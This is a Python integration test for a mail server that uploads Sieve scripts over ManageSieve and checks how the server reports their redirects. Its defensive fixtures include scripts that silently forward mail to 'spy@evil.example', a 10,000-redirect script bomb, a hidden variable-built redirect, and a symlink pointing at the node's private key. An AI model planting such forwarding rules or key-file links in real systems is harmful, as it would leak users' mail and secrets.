"""A real ManageSieve client uploads, a real node reads: every script is told, and the node goes on meanwhile."""

import base64
import os
import pwd
import re
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from live_node import JOE, KIM, MIA, PASSWORD, LiveNode, domain, live_node, mailbox, unchecked, until

pytestmark = pytest.mark.server
LEO = "leo@acme.example"
WITHIN = 300  # seconds: what is promised


@pytest.fixture(scope="module")
def served() -> Iterator[LiveNode]:
    with live_node() as running:
        running.start()
        assert running.ready(), running.log() + running.log("agent")
        running.put("domain", "acme.example", domain("acme.example"))
        running.put("domain", "globex.example", domain("globex.example"))
        for address in (MIA, JOE, KIM):
            running.put_mailbox(address)
        yield running


def managesieve(node: LiveNode, login: str, *commands: bytes) -> None:
    """Each must be answered OK (RFC 5804)."""
    plain = base64.b64encode(f"\0{login}\0{PASSWORD}".encode())
    with socket.create_connection((node.address, node.config.ports.managesieve), 10, (node.client, 0)) as bare:
        told(bare)
        bare.sendall(b"STARTTLS\r\n")
        told(bare)
        with unchecked().wrap_socket(bare) as line:
            told(line)
            for command in (b'AUTHENTICATE "PLAIN" "%s"' % plain, *commands):
                line.sendall(command + b"\r\n")
                told(line)


def told(line: socket.socket) -> None:
    """One answer, which must be OK; what it says may be a string of several lines."""
    answer = b""
    while not re.search(rb"(?m)^(OK|NO|BYE)(?:.*\{(\d+)\}\r\n(?s:.*))?.*\r\n\Z", answer):
        answer += line.recv(4096)
    assert re.search(rb"(?m)^OK", answer), answer


def put(name: str, text: bytes) -> bytes:
    return b'PUTSCRIPT "%s" {%d+}\r\n%s' % (name.encode(), len(text), text)


def scripts(node: LiveNode, login: str) -> dict[str, dict[str, Any]] | None:
    """As last told of it."""
    rows = [row for row in node.source.reported("sieve") if row.get("login") == login]
    return {one["name"]: one for one in rows[-1]["scripts"]} if rows else None


def whole(node: LiveNode) -> dict[str, Any]:
    return next((row for row in reversed(node.source.reported("sieve")) if row.get("whole")), {})


def found(node: LiveNode, login: str, right: Callable[[dict[str, dict[str, Any]]], object]) -> None:
    def look() -> bool:
        said = scripts(node, login)
        return said is not None and bool(right(said))

    began = time.monotonic()
    assert until(look, WITHIN), f"{scripts(node, login)} {node.log('agent')[-2000:]}"
    assert time.monotonic() - began < WITHIN


def by_hand(node: LiveNode, login: str, name: str, text: bytes) -> Path:
    """As somebody would who is on the machine: past the compiler, which refuses such a script to a client."""
    local, _, at = login.partition("@")
    path = node.config.folder / f"mail/{at}/{local}/sieve/{name}.sieve"
    path.write_bytes(text)
    os.chown(path, pwd.getpwnam("postroom-mail").pw_uid, -1)
    return path


def test_what_clients_upload_is_told_within_the_time_and_the_node_goes_on(served: LiveNode) -> None:
    node = served
    bomb = b"".join(b'redirect "u%d@evil.example";\n' % n for n in range(10_000))
    worked_out = b'require ["variables"];\nset "x" "spy@evil.example";\nredirect "${x}";'
    managesieve(node, MIA, put("out", b'redirect "spy@evil.example";'), b'SETACTIVE "out"', put("idle", b"keep;"))
    managesieve(node, JOE, put("hidden", b"keep;"), b'SETACTIVE "hidden"', put("bomb", bomb))
    by_hand(node, JOE, "hidden", worked_out)
    managesieve(node, KIM, put("good", b"keep;"))
    broken = by_hand(node, KIM, "broken", b"this is no script")
    broken.with_name("linked.sieve").symlink_to(node.config.folder / "keys/node.key")

    node.put_mailbox(LEO)  # which asserts that it is served and acknowledged
    found(node, MIA, lambda said: said.keys() == {"out", "idle"} and said["out"]["active"])
    told = scripts(node, MIA) or {}
    assert told["out"]["redirects"] == [
        {"to": "spy@evil.example", "copy": False, "conditional": False, "by": "redirect", "anyway": "", "filed": False},
    ]
    assert told["out"]["active"] and not told["idle"]["active"] and told["idle"]["redirects"] == []
    found(node, JOE, lambda said: said.keys() == {"hidden", "bomb"} and said["hidden"]["redirects"])
    told = scripts(node, JOE) or {}
    assert [one["to"] for one in told["hidden"]["redirects"]] == [""]
    assert len(told["bomb"]["redirects"]) == 200 and "10000 redirects" in told["bomb"]["unreadable"]
    found(node, KIM, lambda said: said.keys() == {"good", "linked", "broken"})
    told = scripts(node, KIM) or {}
    assert told["good"]["unreadable"] == "" and "refuses" in told["broken"]["unreadable"]
    assert told["linked"]["text"] == "" and "no plain file" in told["linked"]["unreadable"]
    assert until(lambda: whole(node).get("mailboxes") == 4, WITHIN)

    managesieve(node, MIA, b'SETACTIVE ""', b'DELETESCRIPT "out"', b'DELETESCRIPT "idle"')
    found(node, MIA, lambda said: not said)


def test_while_scripts_are_slow_to_read_the_list_is_served(served: LiveNode) -> None:
    """Each of these takes seconds; what is put on the list meanwhile takes little longer than before."""
    slow = b"".join(b'if header :contains "x" "%d" { redirect "u%d@evil.example"; }\n' % (n, n) for n in range(9_000))
    before = max(served_in(served) for _ in range(4))
    managesieve(served, JOE, *(put(f"slow{n}", slow + b"# %d" % n) for n in range(12)))
    end, times = time.monotonic() + WITHIN, []
    while "slow0" not in (scripts(served, JOE) or {}) and time.monotonic() < end:
        times.append(served_in(served))
    assert "slow0" in (scripts(served, JOE) or {}) and max(times) < 2 * before + 4, (before, times)


def served_in(node: LiveNode) -> float:
    """Seconds until a mailbox was taken off and put back."""
    return node.put("address", LEO, None) + node.put("address", LEO, mailbox(LEO))
